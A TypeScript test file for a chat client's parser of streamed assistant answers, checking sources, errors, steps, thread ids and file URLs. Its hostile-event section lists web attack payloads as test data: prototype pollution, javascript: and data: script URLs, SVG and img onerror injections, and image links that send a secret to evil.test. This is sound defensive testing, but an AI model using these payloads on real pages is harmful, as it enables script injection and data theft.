import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import type { AssistantUIMessage } from '../index.ts'
import { answerOf } from '../testing/answer.ts'
import { answered, answeredLines, textOf } from '../testing/chat.ts'
import { readHostileEvents } from '../testing/corpora.ts'
import { createAnswer } from './answer.ts'
import { createDiagnostics } from './diagnostics.ts'

beforeEach(() => {
  vi.spyOn(console, 'warn').mockImplementation(() => {})
})
afterEach(() => vi.restoreAllMocks())

type Part = AssistantUIMessage['parts'][number]
const partsOf = async (events: unknown[]): Promise<Part[]> => (await answered(events)).messages[1]?.parts ?? []

const text = { type: 'text-delta', id: 't', delta: 'Text' }
const finish = { type: 'finish', finishReason: 'stop' }

describe('sources', () => {
  const call = (toolName = 'search') => ({ type: 'tool-input-available', toolCallId: 'c', toolName, input: {} })
  const output = (output: unknown) => ({ type: 'tool-output-available', toolCallId: 'c', output })
  const hits = [
    { path: '/install', url: '/install', metadata: { title: 'Install' } },
    { path: '/cli', metadata: {} },
    { path: '/bad', url: 'javascript:alert(1)' },
    null,
    { path: '/install', url: '/install', metadata: { title: 'Again' } }
  ]
  const sourcesOf = async (events: unknown[]) =>
    (await partsOf(events)).flatMap(part => (part.type === 'source-url' ? [[part.url, part.title]] : []))

  it.for([
    ['an array', hits],
    ['results', { results: hits }]
  ])('are taken from what a search returned: %s', async ([, found]) => {
    expect(await sourcesOf([call(), output(found), text, finish])).toEqual([
      ['/install', 'Install'],
      ['/cli', undefined]
    ])
  })

  it('are those that the service names, and the others that it found', async () => {
    const source = { type: 'source-url', sourceId: 's', url: '/install', title: 'By the service' }
    expect(await sourcesOf([call(), output(hits), source, text, finish])).toEqual([
      ['/install', 'By the service'],
      ['/cli', undefined]
    ])
  })

  it.for([
    ['of another tool', [call('lookup'), output(hits)]],
    ['of an output that is none', [call(), output('x')]],
    ['of no array', [call(), output({ results: {} })]]
  ] as [string, unknown[]][])('are not made up %s', async ([, events]) => {
    expect(await sourcesOf([...events, text, finish])).toEqual([])
  })

  it('are kept of an output that is too long to be kept itself', async () => {
    const long = [{ ...hits[0], content: 'x'.repeat(80_000) }]
    const parts = await partsOf([call(), output(long), text, finish])
    expect(parts.find(part => part.type === 'tool-search')).toMatchObject({
      state: 'output-available',
      output: { omittedLength: expect.any(Number) }
    })
    expect(parts.at(-1)).toMatchObject({ type: 'source-url', url: '/install' })
  })
})

describe('an answer that fails', () => {
  it('before its first word leaves no empty message', async () => {
    const chat = await answered([
      { type: 'start', messageId: 'x', messageMetadata: { model: 'm' } },
      { type: 'start-step' },
      { type: 'text-start', id: 't' },
      { type: 'error', errorText: 'overloaded' }
    ])
    expect(chat.messages).toHaveLength(1)
  })

  it('with a finish that says so is no complete answer', async () => {
    const chat = await answered([text, { ...finish, finishReason: 'error', threadId: 'thread' }])
    expect(chat.error).toMatchObject({ code: 'answer_failed' })
    expect(chat.lastMessage?.metadata).toEqual({ threadId: 'thread', interrupted: true })
    expect(textOf(chat.lastMessage)).toBe('Text')
  })

  it('still names its thread when the finish comes after the error', async () => {
    const chat = await answered([
      text,
      { type: 'error', errorText: 'x' },
      { ...text, delta: ' more' },
      { ...finish, threadId: 'thread' }
    ])
    expect(chat.lastMessage?.metadata).toEqual({ threadId: 'thread', interrupted: true })
    expect(textOf(chat.lastMessage)).toBe('Text')
  })

  it('keeps the sources of an answer without text', async () => {
    const chat = await answered([{ type: 'source-url', sourceId: 's', url: '/a' }, finish])
    expect(chat.error).toMatchObject({ code: 'empty_answer' })
    expect(chat.lastMessage?.parts).toMatchObject([{ type: 'source-url', url: '/a' }])
    expect(chat.lastMessage?.metadata).toBeUndefined()
  })

  it.for([
    { type: 'abort', reason: 'shutdown' },
    { ...finish, finishReason: 'interrupted' }
  ])('by a stop of the service is interrupted', async event => {
    const chat = await answered([text, event])
    expect(chat.error).toMatchObject({ code: 'interrupted' })
    expect(chat.lastMessage?.metadata).toEqual({ interrupted: true })
  })
})

/** Events that attack the page; a service may pass them on from what it read. As text, so that `__proto__` is a field. */
const hostileEvents = {
  'a prototype in metadata': '{"type":"message-metadata","messageMetadata":{"__proto__":{"polluted":true}}}',
  'a constructor in metadata': '{"type":"start","messageMetadata":{"constructor":{"prototype":{"polluted":true}}}}',
  'a constructor in data': '{"type":"data-x","data":{"constructor":{"prototype":{"polluted":true}}}}',
  'an element as data':
    '{"type":"data-x","data":{"type":"script","props":{"src":"//evil.test"},"constructor":null,"__k":null}}',
  'an element as a title': '{"type":"source-url","sourceId":"s","url":"/a","title":{"type":"script","props":{}}}',
  'a title that turns text around': '{"type":"source-url","sourceId":"s","url":"/a","title":"docs.test\u202egpj.exe"}',
  'a source that is a script':
    '{"type":"source-url","sourceId":"s","url":"javascript:alert(document.domain)","title":"Docs"}',
  'a source that hides a script':
    '{"type":"source-url","sourceId":"s","url":"\\tjava\\nscript:alert(1)","title":"Docs"}',
  'a source that is data': '{"type":"source-url","sourceId":"s","url":"data:text/html,<script>alert(1)</script>"}',
  'a source on another host':
    '{"type":"source-url","sourceId":"s","url":"https://evil.test/pixel?q=secret","title":"Docs"}',
  'a file that is a script': '{"type":"file","url":"javascript:alert(1)","mediaType":"image/png"}',
  'a file on another host': '{"type":"file","url":"https://evil.test/pixel.png?q=secret","mediaType":"image/png"}',
  'a drawing with a script':
    '{"type":"file","url":"data:image/svg+xml,<svg onload=\\"alert(1)\\"/>","mediaType":"image/svg+xml"}',
  'an image in reasoning': '{"type":"reasoning-delta","id":"r","delta":"![x](https://evil.test/pixel?q=secret)"}',
  'a tool with the name of an element':
    '{"type":"tool-input-start","toolCallId":"c","toolName":"<img src=x onerror=alert(1)>"}',
  'an id that is an element': '{"type":"start","messageId":"\\"><script>alert(1)</script>"}',
  'an error of 1 MB': `{"type":"error","errorText":"${'x'.repeat(1_000_000)}"}`
}

it.for([
  ...Object.entries(hostileEvents),
  ...readHostileEvents().map(({ class: name, line }) => [name, line] as [string, string])
])('takes a hostile event for what it is: %s', async ([, line]) => {
  const chat = await answeredLines([line, JSON.stringify(text), JSON.stringify(finish)])
  const failed = line.startsWith('{"type":"error"')
  expect(chat.status).toBe(failed ? 'error' : 'ready')
  expect(textOf(chat.messages[1])).toBe(failed ? '' : 'Text')
  const kept = JSON.stringify(chat.messages)
  expect(kept).not.toMatch(/"__proto__"|"constructor"|javascript:|java\\nscript|data:text/)
  for (const part of chat.messages[1]?.parts ?? []) {
    if (part.type === 'source-url') expect(typeof part.title).toMatch(/string|undefined/)
  }
  expect({}).not.toHaveProperty('polluted')
})

describe('the start of an answer', () => {
  const start = { type: 'start', messageId: 'theirs' }

  it('comes first, whatever the service says before it', async () => {
    const before = [{ type: 'message-metadata', messageMetadata: { model: 'm' } }, { type: 'start-step' }]
    const { chunks } = answerOf([...before, start, text, finish])
    expect(chunks[0]).toMatchObject(start)
    const chat = await answered([...before, start, text, finish])
    expect(chat.messages.map(({ id }) => id)).toEqual([expect.any(String), 'theirs'])
    expect(chat.lastMessage?.metadata).toEqual({ model: 'm' })
  })

  it('counts once', () => {
    const { chunks } = answerOf([start, { ...start, messageId: 'other' }, text, finish])
    expect(chunks.filter(({ type }) => type === 'start')).toEqual([{ ...start, messageMetadata: undefined }])
  })

  it('names no message that is there already, nor one that is on screen', () => {
    expect(answerOf([start, text, finish], { conversation: ['theirs'] }).chunks[0]).toMatchObject({
      type: 'start',
      messageId: undefined
    })
    const late = answerOf([text, start, finish]).chunks
    expect(late.find(({ type }) => type === 'start')).toMatchObject({ messageId: undefined })
  })

  it('tells its metadata also when it comes a second time', () => {
    const second = { type: 'start', messageMetadata: { model: 'm', interrupted: true } }
    expect(answerOf([start, second, text, finish]).chunks).toContainEqual({
      type: 'message-metadata',
      messageMetadata: { model: 'm' }
    })
  })
})

describe('steps', () => {
  it('are told on, a hundred at most, and their ends are not needed', () => {
    const steps = Array.from({ length: 102 }, () => [{ type: 'start-step' }, { type: 'finish-step' }]).flat()
    const { chunks, skipped } = answerOf([...steps, { type: 'reset-step' }, text, finish])
    expect(chunks.filter(({ type }) => type === 'start-step')).toHaveLength(100)
    expect(chunks.some(({ type }) => type === 'finish-step' || type === 'reset-step')).toBe(false)
    expect(skipped).toEqual(['steps past the limit', 'steps past the limit'])
  })

  it('take the hundredth back', () => {
    const steps = Array.from({ length: 100 }, () => ({ type: 'start-step' }))
    expect(answerOf([...steps, { type: 'reset-step' }, text, finish]).chunks).toContainEqual({ type: 'reset-step' })
  })

  it('that are taken back take their text along: an answer without any other is empty', () => {
    const step = { type: 'start-step' }
    const reset = { type: 'reset-step' }
    expect(answerOf([step, text, reset, finish]).error).toMatchObject({ code: 'empty_answer' })
    expect(answerOf([step, text, step, reset, finish]).error).toBeUndefined()
    expect(answerOf([step, step, text, reset, text, finish]).error).toBeUndefined()
  })
})

describe('the thread of an answer', () => {
  const threadOf = (events: unknown[], threadHeader?: string) =>
    answerOf([...events, text], threadHeader ? { threadHeader } : {}).threadId
  const places: [string, unknown[], string?][] = [
    ['finish', [{ ...finish, threadId: 'finish' }]],
    ['finish metadata', [{ ...finish, messageMetadata: { threadId: 'finish metadata' } }]],
    ['metadata', [{ type: 'start', messageMetadata: { threadId: 'metadata' } }]],
    ['header', [], 'header'],
    ['data', [{ type: 'data-thread', data: { threadId: 'data' } }]]
  ]

  it.each(places)('is what %s says', (name, events, header) => {
    expect(threadOf(events, header)).toBe(name)
  })

  it('is what the most trusted place says', () => {
    for (const [index, [name]] of places.entries()) {
      const events = places.slice(index).flatMap(([, given]) => given)
      expect(threadOf(events, index <= 3 ? 'header' : undefined)).toBe(name)
      expect(threadOf(events.toReversed(), index <= 3 ? 'header' : undefined)).toBe(name)
    }
  })

  it.each([
    { type: 'data-x', data: { threadId: 'x' } },
    { type: 'data-threads', data: { threadId: 'x' } },
    { type: 'data-my-thread', data: { threadId: 'x' } },
    { type: 'data-thread', data: 'x' },
    { type: 'data-thread', data: { threadId: '' } },
    { type: 'start', messageMetadata: { threadId: 7 } }
  ])('is not taken from %j', event => {
    expect(threadOf([event])).toBeUndefined()
  })

  it('is taken from the metadata of a message and from data of version 1', () => {
    expect(threadOf([{ type: 'message-metadata', messageMetadata: { threadId: 'x' } }])).toBe('x')
    expect(threadOf([{ type: 'data-item', data: { threadId: 'x' } }])).toBe('x')
  })

  it('is told with the finish, or with the mark of an answer that broke off', () => {
    expect(answerOf([text, finish], { threadId: 'x' }).chunks.at(-1)).toMatchObject({
      type: 'finish',
      messageMetadata: { threadId: 'x' }
    })
    expect(answerOf([text], { threadId: 'x' }).chunks.at(-1)).toEqual({
      type: 'message-metadata',
      messageMetadata: { threadId: 'x', interrupted: true }
    })
  })
})

describe('the finish', () => {
  it('keeps a reason that is known, and calls any other one other', () => {
    const known = ['stop', 'length', 'content-filter', 'tool-calls', 'other']
    const reasons = [...known, 'unknown', 'tired', '']
    const told = reasons.map(finishReason => answerOf([text, { ...finish, finishReason }]).chunks.at(-1))
    expect(told.map(chunk => chunk?.type === 'finish' && chunk.finishReason)).toEqual([
      ...known,
      'other',
      'other',
      'other'
    ])
    for (const finishReason of [undefined, 7, {}]) {
      expect(answerOf([text, { ...finish, finishReason }]).chunks.at(-1)).toMatchObject({ finishReason: undefined })
    }
  })

  it('tells its metadata, and has none where there is none', () => {
    const messageMetadata = { totalTokens: 3, threadKey: 'secret', context: [], interrupted: true }
    expect(answerOf([text, { ...finish, messageMetadata }]).chunks.at(-1)).toMatchObject({
      messageMetadata: { totalTokens: 3 }
    })
    expect(answerOf([text, finish]).chunks.at(-1)).toEqual({ ...finish, messageMetadata: undefined })
  })

  it.each(['error', 'interrupted'])('of an answer that ended with %s is left out', finishReason => {
    expect(answerOf([text, { ...finish, finishReason }]).chunks.some(({ type }) => type === 'finish')).toBe(false)
  })
})

describe('data', () => {
  it('with an id takes the place of the one before, and is one part', () => {
    const status = Array.from({ length: 400 }, (_, data) => ({ type: 'data-status', id: 's', data }))
    const others = [
      { type: 'data-status', id: 't', data: 0 },
      { type: 'data-x', id: 's', data: 0 }
    ]
    const { chunks, skipped } = answerOf([...status, ...others, text, finish])
    expect(chunks.filter(({ type }) => type.startsWith('data-'))).toHaveLength(402)
    expect(skipped).toEqual([])
  })

  it('without an id is a part each time', () => {
    const { chunks, skipped } = answerOf([
      ...Array.from({ length: 301 }, (_, data) => ({ type: 'data-x', data })),
      { type: 'data-y', id: 'y', data: 0 },
      { type: 'data-y', id: 'y', data: 1 },
      text,
      finish
    ])
    expect(chunks.filter(({ type }) => type.startsWith('data-'))).toHaveLength(300)
    expect(skipped).toHaveLength(3)
  })

  it('that is transient is no part, and makes no message', () => {
    const data = { type: 'data-x', data: 1, transient: true }
    const { chunks, skipped } = answerOf([...Array(400).fill(data), { type: 'error', errorText: 'x' }])
    expect(chunks).toEqual(Array(400).fill(data))
    expect(skipped).toEqual([])
  })
})

describe('files', () => {
  it.each(['file', 'reasoning-file'])('of type %s have web addresses or are data', type => {
    const file = (url: string) => ({ type, url, mediaType: 'image/png' })
    const { chunks, skipped } = answerOf([
      ...['/a.png', 'https://x.test/a.png', 'data:image/png,x', 'DATA:image/png,x'].map(file),
      ...['javascript:x', 'file:///a', 'xdata:x', ''].map(file),
      text,
      finish
    ])
    expect(chunks.flatMap(chunk => (chunk.type === type ? [(chunk as { url: string }).url] : []))).toEqual([
      '/a.png',
      'https://x.test/a.png',
      'data:image/png,x',
      'DATA:image/png,x'
    ])
    expect(skipped).toEqual(Array(4).fill('file that is no web address'))
  })
})

describe('what is too long to be read', () => {
  const cutAnswer = (type: string | undefined) => {
    const answer = createAnswer(new Set(), createDiagnostics())
    answer.take(text, 1)
    answer.take(finish, 1)
    answer.cut(type)
    return answer.end(new Error('broken'))
  }

  it('is missed where it was text, or may have been', () => {
    expect(cutAnswer('text-delta')).toMatchObject({ code: 'interrupted', message: expect.stringContaining('too long') })
    expect(cutAnswer(undefined)).toMatchObject({ code: 'interrupted' })
    expect(cutAnswer('data-x')).toBeUndefined()
  })

  it('is an event all the same, and is counted', () => {
    const answer = createAnswer(new Set(), createDiagnostics())
    expect([answer.begun, answer.over]).toEqual([false, false])
    answer.cut('data-x')
    expect([answer.begun, answer.over]).toEqual([true, false])
    const skipped: string[] = []
    createAnswer(new Set(), { ...createDiagnostics(), skipped: what => skipped.push(what) }).cut('data-x')
    expect(skipped).toEqual(['line past 1 MB'])
  })

  it('ends an answer of more than 32 MB of text', () => {
    const answer = createAnswer(new Set(), createDiagnostics())
    answer.take(text, 32 * 1024 * 1024)
    answer.take({ ...text, delta: ' more' }, 1)
    expect(answer.over).toBe(true)
    expect(answer.end(new Error('broken'))).toMatchObject({
      code: 'interrupted',
      message: expect.stringContaining('too long')
    })
    expect(JSON.stringify(answer.drain())).not.toContain('more')
  })
})

it('tells what the service said of its failure, and of its stop', () => {
  expect(answerOf([text, { type: 'error', errorText: 'overloaded' }]).error).toMatchObject({
    code: 'answer_failed',
    serverMessage: 'overloaded',
    message: expect.stringContaining('failed')
  })
  expect(answerOf([text, { type: 'abort', reason: 'shutdown' }]).error).toMatchObject({
    code: 'interrupted',
    serverMessage: 'shutdown',
    message: expect.stringContaining('stopped')
  })
  for (const [finishReason, words] of [
    ['error', 'failed'],
    ['interrupted', 'stopped']
  ]) {
    expect(answerOf([text, { ...finish, finishReason }]).error).toMatchObject({
      serverMessage: undefined,
      message: expect.stringContaining(words as string)
    })
  }
})

it('keeps the first failure', () => {
  const events = [text, { type: 'error', errorText: 'first' }, { ...finish, finishReason: 'interrupted' }]
  expect(answerOf(events).error).toMatchObject({ code: 'answer_failed', serverMessage: 'first' })
})

it('is empty without a word, though it may have blanks and reasoning', () => {
  const events = [
    { type: 'text-delta', id: 't', delta: ' \n' },
    { type: 'reasoning-delta', id: 'r', delta: 'Hm' },
    finish
  ]
  expect(answerOf(events).error).toMatchObject({ code: 'empty_answer', message: expect.stringContaining('no text') })
  expect(answerOf([...events.slice(0, 2), text, events[0], finish]).error).toBeUndefined()
})

it('is neither begun nor over by what is no event', () => {
  const answer = createAnswer(new Set(), createDiagnostics())
  for (const event of [null, {}, { type: 'unknown' }]) answer.take(event, 1)
  expect([answer.begun, answer.over, answer.hasChunks]).toEqual([false, false, false])
  answer.take({ type: 'start' }, 1)
  expect([answer.begun, answer.over, answer.hasChunks]).toEqual([true, false, false])
  answer.take(text, 1)
  expect(answer.hasChunks).toBe(true)
  answer.take(finish, 1)
  expect(answer.over).toBe(true)
})

it('reads the reasoning of version 5.0.0 in the parts that it came in', () => {
  const piece = (text: string) => ({ type: 'reasoning', text })
  const end = { type: 'reasoning-part-finish' }
  const { chunks, mended } = answerOf([end, piece('One '), piece('two'), end, end, piece('Three'), finish])
  expect(chunks.flatMap(chunk => (chunk.type === 'reasoning-delta' ? [chunk.delta] : []))).toEqual(['One two', 'Three'])
  expect(chunks.filter(({ type }) => type === 'reasoning-end')).toHaveLength(2)
  expect(mended).toEqual([])
})

it('reads the reasoning of version 5.0.0', async () => {
  const parts = await partsOf([{ type: 'reasoning', text: 'Hm' }, { type: 'reasoning-part-finish' }, text, finish])
  expect(parts[0]).toMatchObject({ type: 'reasoning', text: 'Hm', state: 'done' })
})

it('tells in one line what it skipped and mended', async () => {
  await answered([null, { type: 'x' }, { type: 'x' }, text, { type: 'text-end', id: 'q' }, finish])
  expect(console.warn).toHaveBeenCalledExactlyOnceWith(expect.any(String), {
    skipped: { 'not an event': 1, 'unknown type x': 2 },
    mended: { 'text-delta without its start': 1, 'text-end without its start': 1 }
  })
})

it('says nothing about an answer that was as it should be', async () => {
  await answered([{ type: 'start' }, { type: 'text-start', id: 't' }, text, { type: 'text-end', id: 't' }, finish])
  expect(console.warn).not.toHaveBeenCalled()
})
